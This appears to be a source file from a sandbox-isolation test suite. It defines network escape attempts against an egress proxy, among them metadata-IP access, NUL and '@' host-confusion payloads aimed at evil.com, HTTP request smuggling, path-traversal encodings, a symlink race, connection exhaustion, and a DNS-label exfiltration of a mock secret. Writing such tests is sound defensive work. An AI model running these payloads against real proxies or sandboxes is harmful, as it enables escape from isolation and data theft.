import { once } from 'node:events';
import { connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { type Attack, program } from '../attack.ts';
import type { Ground } from '../ground.ts';
import { ownAddresses } from '../host.ts';
import { ALLOWED_HOST, ALLOWED_PATH } from '../rig.ts';
import { weakTarget } from '../weak.ts';
import { needsRig, onHost } from './controls.ts';

/** Ways out: past the one door, and through it to where it must not lead. */

const ASK = `
HOST = P.get("host", "")
def ask(text, seconds=2):
    data = text if isinstance(text, bytes) else text.encode("latin-1")
    try:
        with socket.create_connection(("127.0.0.1", P.get("door", 3128)), timeout=seconds) as one:
            one.sendall(data)
            answer = b""
            while chunk := one.recv(4096):
                answer += chunk
                if b"reached" in answer or b"}" in answer:
                    break
            return answer
    except ConnectionRefusedError:
        escaped("there is no door to try")
    except OSError:
        return b""
def get(target, host="127.0.0.1:3128", method="GET"):
    return ask(f"{method} {target} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n")
def tunnel(target):
    return ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n", 1)`;

/** What the policy allows must still come through: otherwise nothing was shown. */
const SERVED = `
answer = ask(f"GET {P['allowed']} HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\nConnection: close\\r\\n\\r\\n", 8)
refused("only what is allowed came through") if b"reached" in answer else escaped(f"the door does not serve: {answer[-200:]}")`;

export const network: readonly Attack[] = [
  {
    id: 58,
    group: 'network',
    name: 'every address directly: TCP, UDP, names, odd spellings',
    stage: async (ground) => {
      ground.params['port'] = await ground.listener();
      ground.params['addresses'] = ownAddresses();
    },
    attempt: program(`
port = P["port"]
def tcp(address):
    with socket.create_connection((address, port), timeout=2) as one:
        if one.recv(7) != b"reached":
            raise Shut("somebody else")
    return "reached"
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"x", ("192.0.2.1", 53))
    return "sent"
def odd(text):
    return tcp(socket.getaddrinfo(text, port, proto=socket.IPPROTO_TCP)[0][4][0])
# On loopback a sandbox has only itself: what counts is whether the host's listener answers.
ways = {address: lambda address=address: tcp(address) for address in P["addresses"]}
every(**ways, udp=udp, decimal=lambda: odd("2130706433"), octal=lambda: odd("0177.0.0.1"), short=lambda: odd("127.1"),
      mapped=lambda: odd("::ffff:127.0.0.1"), metadata=lambda: tcp("169.254.169.254"))`),
    control: onHost("in the host's network"),
  },
  {
    id: 61,
    group: 'network',
    name: 'around the door: no proxy variables, raw requests, abstract sockets',
    stage: async (ground) => {
      ground.params['port'] = await ground.listener();
      ground.params['addresses'] = ownAddresses();
      await ground.listener(`\0${ground.nonce}`);
    },
    attempt: program(`
for name in list(os.environ):
    if "proxy" in name.lower():
        del os.environ[name]
import urllib.request
def plain():
    for address in P["addresses"]:
        host = f"[{address}]" if ":" in address else address
        try:
            urllib.request.urlopen(f"http://{host}:{P['port']}/", timeout=2)
        except OSError as error:
            if "BadStatusLine" in repr(error):
                return address
        except Exception as error:
            return f"{address}: {type(error).__name__}"
    raise Shut("no address answers")
def abstract():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0" + P["nonce"])
        return one.recv(7)
every(plain=plain, abstract=abstract)`),
    control: onHost("in the host's network"),
  },
  door(
    59,
    'a name with a NUL, in a SOCKS greeting and in requests',
    `
evil = "evil.com\\0." + HOST
ask(b"\\x05\\x01\\x00")
ask(b"\\x05\\x01\\x00\\x03" + bytes([len(evil)]) + evil.encode() + b"\\x01\\xbb")
tunnel(evil + ":443")
tunnel("evil.com%00." + HOST + ":443")
get("/http/allowed\\0/open/x")
get("/http/allowed/open/x\\0/../../closed")`,
  ),
  door(
    60,
    'a host and a datasource that no rule names',
    `
for host in ("example.com", "evil.example.com", "evil" + HOST, HOST + ".evil.com", "x." + HOST, "localhost", ""):
    tunnel(host + ":443")
    get(f"http://{host}/open/x", host)
    get(f"https://{host}/open/x", host)
tunnel(HOST + ":22")
for name in ("other", "Allowed", "allowed.", "allowed%2f", "."):
    get(f"/http/{name}/open/x")`,
  ),
  door(
    62,
    'one host in the target, another in the header, the greeting or the user name',
    `
for line in (HOST + "@evil.com", "evil.com#" + HOST, "evil.com?" + HOST, HOST + "%2eevil.com", "evil.com\\\\@" + HOST):
    get(f"https://{line}/open/x", HOST)
    tunnel(line + ":443")
get(f"https://{HOST}/open/x", "evil.com")
get(P["allowed"], "evil.com")
get("http://evil.com" + P["allowed"], "127.0.0.1:3128")
# A tunnel for one host, a greeting for another: opened, it must be cut before anything is dialled.
import ssl
with socket.create_connection(("127.0.0.1", P.get("door", 3128)), timeout=3) as one:
    one.sendall(f"CONNECT {HOST}:443 HTTP/1.1\\r\\nHost: {HOST}:443\\r\\n\\r\\n".encode())
    one.recv(4096)
    try:
        ssl.create_default_context().wrap_socket(one, server_hostname="evil.com")
    except OSError:
        pass`,
  ),
  door(
    63,
    'addresses instead of names: loopback, metadata, every spelling',
    `
for host in ("127.0.0.1", "169.254.169.254", "[::1]", "[::ffff:169.254.169.254]", "2130706433", "0x7f.1", "0177.1",
             "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0"):
    get(f"http://{host}/open/x", host)
    tunnel(host + ":443")`,
  ),
  door(
    64,
    'two requests in one (CL and TE), TRACE, an upgrade',
    `
line = f"GET {P['allowed']} HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n"
two = "GET /http/allowed/closed HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n\\r\\n"
body = "0\\r\\n\\r\\n" + two
ask(f"{line}Content-Length: {len(body)}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{body}")
ask(f"{line}Transfer-Encoding: xchunked\\r\\n\\r\\n{body}")
ask(f"{line}Transfer-Encoding : chunked\\r\\n\\r\\n{body}")
ask(f"{line}Content-Length: 0\\r\\nContent-Length: {len(two)}\\r\\n\\r\\n{two}")
ask(f"{line}X: a\\n\\nGET /http/allowed/closed HTTP/1.1\\r\\n\\r\\n")
ask(f"{line}X: a\\r\\n b\\r\\n\\r\\n{two}")
ask(line.replace("GET", "TRACE") + "\\r\\n")
ask(f"{line}Connection: Upgrade\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\nPRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
  ),
  {
    id: 66,
    group: 'network',
    name: "the sidecar's own interface, through its door and beside it",
    stage: (ground) => {
      ground.params['box'] = ground.rig?.sandboxes ?? '';
      forwardedIsHarm(ground);
    },
    attempt: program(`
def grpc(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        one.connect(path)
        one.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes(3) + b"\\x04" + bytes(5))
        answer = one.recv(64)
        if len(answer) < 9 or answer[3] != 4:
            raise Shut("no HTTP/2")
        return "HTTP/2 answers"
def neighbours():
    names = os.listdir(P["box"])
    return f"{len(names)} neighbours"
every(
    egress=lambda: grpc("/run/outrider/egress"),
    sidecar=lambda: grpc(os.path.dirname(P["box"]) + "/run/sidecar.sock"),
    neighbours=neighbours,
)`),
    control: onHost("the runner's directories are there"),
    unfit: needsRig,
  },
  {
    id: 67,
    group: 'network',
    name: 'a socket path that changes while it is connected to',
    stage: async (ground) => {
      const path = join(ground.directory, 'aim');
      await ground.listener(path);
      ground.params['aim'] = path;
    },
    attempt: program(`
aim, tmp = P["aim"].encode(), P["places"]["tmp"].encode()
buffer = ctypes.create_string_buffer((struct.pack("<H", 1) + tmp + b"/no").ljust(110, b"\\0"), 110)
end, reached, tries = time.time() + 1.0, 0, 0
names = [tmp + b"/no", aim]
def flip():
    turn = 0
    while time.time() < end:
        for name in names:
            ctypes.memmove(ctypes.addressof(buffer) + 2, name + b"\\0", len(name) + 1)
        turn += 1
        try:
            os.symlink(names[turn % 2], tmp + b"/l.new")
            os.rename(tmp + b"/l.new", tmp + b"/l")
        except OSError:
            pass
threading.Thread(target=flip, daemon=True).start()
while time.time() < end:
    with socket.socket(socket.AF_UNIX) as one:
        tries += 1
        reached += libc.connect(one.fileno(), buffer, 110) == 0
    with socket.socket(socket.AF_UNIX) as one:
        try:
            one.connect(tmp + b"/l")
            reached += 1
        except OSError:
            pass
escaped(f"{reached} of {tries}") if reached else refused(f"none of {tries}")`),
    control: onHost("the host's directories are there"),
  },
  {
    id: 68,
    group: 'network',
    name: 'hold every connection of the door half open',
    attempt: async (target, ground) => {
      const stop = new AbortController();
      let hog: Promise<unknown> = Promise.resolve();
      await new Promise<void>((resolve, reject) => {
        const onStdout = () => resolve();
        const { params } = ground;
        hog = target.run({ code: HALF_OPEN, params, signal: stop.signal, onStdout });
        hog.catch(reject);
      });
      try {
        return await program(STILL_SERVED)(target, ground);
      } finally {
        stop.abort();
        await hog.catch(() => {});
      }
    },
    stage: (ground) => {
      Object.assign(ground.params, { host: ALLOWED_HOST, allowed: ALLOWED_PATH });
    },
    control: { how: 'a door that serves four at a time', target: narrowDoor },
    unfit: needsRig,
  },
  {
    id: 69,
    group: 'network',
    name: "a neighbour's port on loopback",
    stage: (ground) => {
      ground.params['port'] = 20_000 + (process.pid % 20_000);
    },
    attempt: async (target, ground) => {
      const stop = new AbortController();
      const { params } = ground;
      let server: Promise<unknown> = Promise.resolve();
      await new Promise<void>((resolve, reject) => {
        const onStdout = () => resolve();
        server = target.run({ code: SERVE, params, signal: stop.signal, onStdout });
        server.catch(reject);
      });
      try {
        return await program(`
every(port=lambda: socket.create_connection(("127.0.0.1", P["port"]), timeout=2).recv(7),
      any=lambda: socket.create_connection(("0.0.0.0", P["port"]), timeout=2).recv(7))`)(
          target,
          ground,
        );
      } finally {
        stop.abort();
        await server.catch(() => {});
      }
    },
    control: onHost('two processes of one network'),
  },
  door(
    70,
    'another method or path of what is allowed, and data in names',
    `
for method in ("POST", "PUT", "DELETE", "OPTIONS", "get"):
    get(P["allowed"], method=method)
for path in ("closed", "open/../closed", "open/%2e%2e/closed", "open//../../closed", "open/..;/closed",
             "open/%2e%2e%2fclosed", "open/..%5cclosed", "%6fpen/../closed", "OPEN/x"):
    get("/http/allowed/" + path)
stolen = "stolen-secret".encode().hex()
tunnel(f"{stolen}.{HOST}:443")`,
  ),
];

/** Requests to the door that must get no further: what reaches the proxy's place behind it is harm. */
function door(id: number, name: string, code: string): Attack {
  return {
    id,
    group: 'network',
    name,
    stage: (ground) => {
      Object.assign(ground.params, { host: ALLOWED_HOST, allowed: ALLOWED_PATH });
      forwardedIsHarm(ground);
    },
    attempt: program(`${ASK}\n${code}\n${SERVED}`, { timeoutMs: 40_000 }),
    control: { how: 'a door that passes everything on', target: openDoor },
    unfit: needsRig,
  };
}

function forwardedIsHarm(ground: Ground): void {
  const { rig } = ground;
  if (!rig) return;
  const before = rig.forwarded.length;
  ground.harmWhen(() => {
    const through = rig.forwarded[before];
    return through === undefined ? undefined : `this got out: ${through}`;
  });
}

/** Passes bytes on to the proxy's place. */
async function openDoor(ground: Ground) {
  const server = createServer((near) => {
    const far = connect(ground.rig?.socket('proxy') ?? '');
    near.on('error', () => far.destroy()).pipe(far);
    far.on('error', () => near.destroy()).pipe(near);
  });
  ground.params['door'] = await listening(server, ground);
  return weakTarget(ground);
}

/** Serves four at a time, and answers only whole requests. */
async function narrowDoor(ground: Ground) {
  const server = createServer((near) => {
    near.on('error', () => {});
    near.on('data', (data) => {
      if (data.includes('\r\n\r\n')) near.end('HTTP/1.1 200 OK\r\n\r\nreached');
    });
  });
  server.maxConnections = 4;
  ground.params['door'] = await listening(server, ground);
  return weakTarget(ground);
}

async function listening(server: Server, ground: Ground): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  ground.atEnd(() => void server.close());
  const address = server.address();
  return typeof address === 'object' && address !== null ? address.port : 0;
}

const HALF_OPEN = `${ASK}
kept = []
for _ in range(300):
    try:
        one = socket.create_connection(("127.0.0.1", P.get("door", 3128)), timeout=2)
        one.sendall(b"GET http://")
        kept.append(one)
    except OSError:
        break
print(len(kept), "held", flush=True)
time.sleep(20)`;

const STILL_SERVED = `${ASK}${SERVED}`;

const SERVE = `
with socket.create_server(("0.0.0.0", P["port"])) as server:
    print("ready", flush=True)
    server.settimeout(20)
    while True:
        one, _ = server.accept()
        one.sendall(b"reached")
        one.close()`;
